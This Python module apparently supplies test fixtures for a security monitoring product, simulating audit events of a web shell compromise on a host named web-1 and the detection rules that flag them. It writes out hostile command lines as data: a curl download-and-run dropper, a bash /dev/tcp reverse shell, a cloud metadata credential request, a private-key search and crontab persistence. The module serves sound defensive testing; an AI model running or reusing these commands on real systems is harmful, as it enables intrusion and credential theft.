"""A web shell on web-1, event by event as the agent would normalise it, and what rules find in it.

Enough to fill every part of the console: several levels, groups of one and of many, chains of processes, networks,
files and a login. Times are relative to a moment that the caller names.
"""

from __future__ import annotations

import msgspec

from tocsin.model.event import Event, Json, Record, Value, batch_id, event_uid, nest
from tocsin.model.finding import Finding, MetTerm
from tocsin.model.wire import PlainRecord

ORG, HOST, ORIGIN = "default", "web-1", "agent-web-1"
HOUR_MS = 3_600_000


class Proc(msgspec.Struct, frozen=True):
    """A process of the story."""

    pid: int
    path: str
    cmd_line: str
    parent: Proc | None = None
    user: str = "www-data"

    @property
    def name(self) -> str:
        return self.path.rpartition("/")[2]

    @property
    def uid(self) -> str:
        return f"b7e1-{self.pid}-{self.pid * 7}"


INIT = Proc(1, "/usr/lib/systemd/systemd", "/sbin/init", None, "root")
APACHE = Proc(811, "/usr/sbin/apache2", "/usr/sbin/apache2 -k start", INIT, "root")
WORKER = Proc(2214, "/usr/sbin/apache2", "/usr/sbin/apache2 -k start", APACHE)
SHELL = Proc(31804, "/usr/bin/dash", "sh -c id; uname -a; cat /etc/passwd", WORKER)
STEPS = [
    (SHELL, 0),
    (Proc(31805, "/usr/bin/id", "id", SHELL), 12),
    (Proc(31806, "/usr/bin/uname", "uname -a", SHELL), 19),
    (Proc(31807, "/usr/bin/cat", "cat /etc/passwd", SHELL), 27),
]
_DROPPED = "/tmp/.k"  # noqa: S108  # where the story's implant lies
DROP = Proc(
    31822, "/usr/bin/dash", "sh -c curl -s http://198.51.100.23/k -o /tmp/.k && chmod +x /tmp/.k && /tmp/.k", WORKER
)
CURL = Proc(31823, "/usr/bin/curl", "curl -s http://198.51.100.23/k -o /tmp/.k", DROP)
CHMOD = Proc(31825, "/usr/bin/chmod", "chmod +x /tmp/.k", DROP)
IMPLANT = Proc(31826, _DROPPED, _DROPPED, DROP)
REVERSE = Proc(31830, "/usr/bin/bash", "bash -c bash -i >& /dev/tcp/198.51.100.23/4444 0>&1", IMPLANT)
INTERACTIVE = Proc(31831, "/usr/bin/bash", "bash -i", REVERSE)
METADATA = Proc(
    31840, "/usr/bin/curl", "curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/", INTERACTIVE
)
GREP = Proc(31842, "/usr/bin/grep", "grep -rl BEGIN.*PRIVATE /home /root /etc/ssl", INTERACTIVE)
CRONTAB = Proc(31851, "/usr/bin/crontab", "crontab -", INTERACTIVE)
LATER = [(DROP, 41_000), (CURL, 41_020), (CHMOD, 41_330), (IMPLANT, 41_342), (REVERSE, 43_010), (INTERACTIVE, 43_025)]
LAST = [(METADATA, 66_000), (GREP, 79_000), (CRONTAB, 91_000)]


def _described(process: Proc) -> dict[str, Value]:
    said: dict[str, Value] = {
        "uid": process.uid,
        "pid": process.pid,
        "name": process.name,
        "file.path": process.path,
        "file.name": process.name,
        "file.type_id": 1,
        "cmd_line": process.cmd_line,
        "user.name": process.user,
        "user.uid": "0" if process.user == "root" else "33",
        "working_directory": "/var/www/html",
    }
    if parent := process.parent:
        said |= {"parent_process.uid": parent.uid, "parent_process.pid": parent.pid}
        said |= {"parent_process.name": parent.name, "parent_process.cmd_line": parent.cmd_line}
        said["ancestry"] = msgspec.json.encode(list(_ancestors(process))).decode()
    return said


def _ancestors(process: Proc) -> list[dict[str, Json]]:
    found: list[dict[str, Json]] = []
    while process.parent:
        process = process.parent
        found.append(
            {
                "pid": process.pid,
                "uid": process.uid,
                "name": process.name,
                "path": process.path,
                "cmd_line": process.cmd_line,
            }
        )
    return found


def _base(time: int, serial: int, activity: int, code: str) -> dict[str, Value]:
    return {
        "time": time,
        "activity_id": activity,
        "status_id": 1,
        "metadata.uid": event_uid(time, batch_id(ORG, ORIGIN, 1, 7), serial % 60_000),
        "metadata.tenant_uid": ORG,
        "metadata.log_name": "auditd",
        "metadata.event_code": code,
        "device.uid": ORIGIN,
        "device.hostname": HOST,
        "device.type_id": 1,
        "unmapped.audit.serial": serial,
    }


def launch(process: Proc, time: int, serial: int) -> Event:
    """The process is executed."""
    values = _base(time, serial, 1, "execve")
    values |= {f"process.{key}": value for key, value in _described(process).items()}
    if process.parent:
        values |= {f"actor.process.{key}": value for key, value in _described(process.parent).items()}
    values["actor.user.name"] = process.user
    return Event(1007, values, _exec_records(process))


def _exec_records(process: Proc) -> tuple[Record, ...]:
    arguments = process.cmd_line.split(" ")
    keys = ("arch", "syscall", "success", "exit", "ppid", "pid", "auid", "uid", "comm", "exe", "key")
    parent = process.parent.pid if process.parent else 0
    uid = "0" if process.user == "root" else "33"
    system_call = ("c000003e", "59", "yes", "0", str(parent), str(process.pid), "4294967295", uid)
    return (
        PlainRecord("SYSCALL", keys, (*system_call, process.name, process.path, "tocsin-exec")),
        PlainRecord("EXECVE", ("argc", *(f"a{i}" for i in range(len(arguments)))), (str(len(arguments)), *arguments)),
        PlainRecord("CWD", ("cwd",), ("/var/www/html",)),
        PlainRecord(
            "PATH", ("item", "name", "inode", "mode", "nametype"), ("0", process.path, "1835042", "0100755", "NORMAL")
        ),
    )


def connect(process: Proc, address: str, port: int, time: int, serial: int) -> Event:
    """The process opens a connection."""
    values = _base(time, serial, 1, "connect")
    values |= {"dst_endpoint.ip": address, "dst_endpoint.port": port, "connection_info.direction_id": 2}
    values |= {"connection_info.protocol_name": "tcp", "connection_info.protocol_num": 6}
    values |= {f"actor.process.{key}": value for key, value in _described(process).items()}
    record = PlainRecord("SOCKADDR", ("saddr_fam", "laddr", "lport"), ("inet", address, str(port)))
    return Event(4001, values, (record,))


def write(process: Proc, path: str, time: int, serial: int) -> Event:
    """The process changes a file."""
    values = _base(time, serial, 3, "openat")
    values |= {"file.path": path, "file.name": path.rpartition("/")[2], "file.type_id": 1}
    values |= {f"actor.process.{key}": value for key, value in _described(process).items()}
    record = PlainRecord("PATH", ("item", "name", "nametype"), ("1", path, "CREATE"))
    return Event(1001, values, (record,))


def failed_login(address: str, user: str, time: int, serial: int) -> Event:
    """Somebody guesses a password."""
    values = _base(time, serial, 1, "USER_LOGIN")
    values |= {"status_id": 2, "user.name": user, "src_endpoint.ip": address, "service.name": "sshd"}
    values |= {"actor.process.name": "sshd", "actor.process.pid": 901, "actor.process.file.path": "/usr/sbin/sshd"}
    values |= {"device.hostname": "bastion-2", "device.uid": "agent-bastion-2"}
    return Event(3002, values, (PlainRecord("USER_LOGIN", ("acct", "addr", "res"), (user, address, "failed")),))


def start_within_a_window(before: int) -> int:
    """The latest start from which the whole story is told before a moment, and within one window of its alerts."""
    window = before - before % HOUR_MS
    told_ms, guessed_ms = 100_000, 600_000
    return before - told_ms if before - told_ms - guessed_ms >= window else window - told_ms


def events(start: int) -> list[Event]:
    """All of the story, in order of time, and some quiet background before it."""
    quiet = [
        launch(
            Proc(20_000 + n, "/usr/bin/run-parts", "run-parts /etc/cron.hourly", INIT, "root"), start - n * 97_000, n
        )
        for n in range(1, 40)
    ]
    told = [launch(process, start + after, 5_000 + n) for n, (process, after) in enumerate(STEPS + LATER + LAST)]
    told += [
        connect(CURL, "198.51.100.23", 80, start + 41_060, 6_000),
        connect(REVERSE, "198.51.100.23", 4444, start + 43_018, 6_001),
        connect(METADATA, "169.254.169.254", 80, start + 66_040, 6_002),
        write(CRONTAB, "/var/spool/cron/crontabs/www-data", start + 91_020, 6_003),
    ]
    told += [failed_login("203.0.113.9", user, start - 600_000 + n * 900, 7_000 + n) for n, user in enumerate(_GUESSED)]
    return sorted(quiet + told, key=lambda event: event.values["time"])


_GUESSED = ["root", "admin", "ubuntu", "oracle", "git", "test", "postgres", "deploy"] * 8


class _Rule(msgspec.Struct, frozen=True):
    id: str
    title: str
    template: str
    level: str
    tags: tuple[str, ...]
    field: str
    term: str


_RULES: dict[str, _Rule] = {
    "shell": _Rule(
        "b6c1a0de-0001-4f6a-9d0a-6f1f5b0e0001",
        "Shell started by a web server",
        "apache2 started a shell on web-1",
        "high",
        ("attack.persistence", "attack.t1505.003"),
        "actor.process.name",
        "ParentImage|endswith: /apache2",
    ),
    "tmp": _Rule(
        "b6c1a0de-0002-4f6a-9d0a-6f1f5b0e0002",
        "Hidden executable run from /tmp",
        f"{_DROPPED} was executed on web-1",
        "high",
        ("attack.defense_evasion", "attack.t1564.001"),
        "process.file.path",
        "Image|startswith: /tmp/.",
    ),
    "reverse": _Rule(
        "b6c1a0de-0003-4f6a-9d0a-6f1f5b0e0003",
        "Reverse shell through /dev/tcp",
        "bash opened a reverse shell to 198.51.100.23:4444",
        "critical",
        ("attack.execution", "attack.t1059.004"),
        "process.cmd_line",
        "CommandLine|contains: /dev/tcp/",
    ),
    "metadata": _Rule(
        "b6c1a0de-0004-4f6a-9d0a-6f1f5b0e0004",
        "Cloud credentials read from the metadata service",
        "curl asked 169.254.169.254 for credentials",
        "high",
        ("attack.credential_access", "attack.t1552.005"),
        "dst_endpoint.ip",
        "DestinationIp: 169.254.169.254",
    ),
    "cron": _Rule(
        "b6c1a0de-0005-4f6a-9d0a-6f1f5b0e0005",
        "Crontab of a service account changed",
        "www-data's crontab was changed on web-1",
        "medium",
        ("attack.persistence", "attack.t1053.003"),
        "file.path",
        "TargetFilename|startswith: /var/spool/cron/",
    ),
    "keys": _Rule(
        "b6c1a0de-0006-4f6a-9d0a-6f1f5b0e0006",
        "Search for private keys",
        "grep looked for private keys on web-1",
        "medium",
        ("attack.credential_access", "attack.t1552.004"),
        "process.cmd_line",
        "CommandLine|contains: PRIVATE",
    ),
    "guess": _Rule(
        "b6c1a0de-0007-4f6a-9d0a-6f1f5b0e0007",
        "Password guessing over SSH",
        "sshd refused logins from 203.0.113.9",
        "low",
        ("attack.credential_access", "attack.t1110.001"),
        "src_endpoint.ip",
        "status: failure",
    ),
    "discovery": _Rule(
        "b6c1a0de-0008-4f6a-9d0a-6f1f5b0e0008",
        "System discovery by a service account",
        "www-data looks around on web-1",
        "informational",
        ("attack.discovery", "attack.t1082"),
        "process.name",
        "Image|endswith: /uname",
    ),
}


def _fires(event: Event) -> list[str]:
    values = event.values
    if event.class_uid == 4001:
        return ["metadata"] if values["dst_endpoint.ip"] == "169.254.169.254" else []
    if event.class_uid == 1001:
        return ["cron"]
    if event.class_uid == 3002:
        return ["guess"]
    cmd_line, name = str(values["process.cmd_line"]), values["process.name"]
    told = {
        "shell": name == "dash",
        "tmp": str(values["process.file.path"]).startswith(_DROPPED),
        "reverse": "/dev/tcp/" in cmd_line,
        "keys": "PRIVATE" in cmd_line,
        "discovery": name in ("id", "uname"),
    }
    return [key for key, fired in told.items() if fired]


def findings(start: int) -> list[Finding]:
    """What the rules say about the story, in order of time."""
    return [_finding(_RULES[key], event) for event in events(start) for key in _fires(event)]


def _finding(rule: _Rule, event: Event) -> Finding:
    value = event.values.get(rule.field, "")
    host = str(event.values["device.hostname"])
    group = {"device.hostname": host}
    if event.class_uid == 3002:
        group["src_endpoint.ip"] = str(event.values["src_endpoint.ip"])
    return Finding(
        org=ORG,
        rule_id=rule.id,
        rule_title=rule.title,
        title=rule.template,
        level=rule.level,
        tags=rule.tags,
        origin=str(event.values["device.uid"]),
        hostname=host,
        event_uid=str(event.values["metadata.uid"]),
        class_uid=event.class_uid,
        time=int(event.values["time"]),
        group=group,
        window_ms=HOUR_MS,
        met=(MetTerm(rule.field, rule.term, str(value)),),
        event=nest(event),
    )
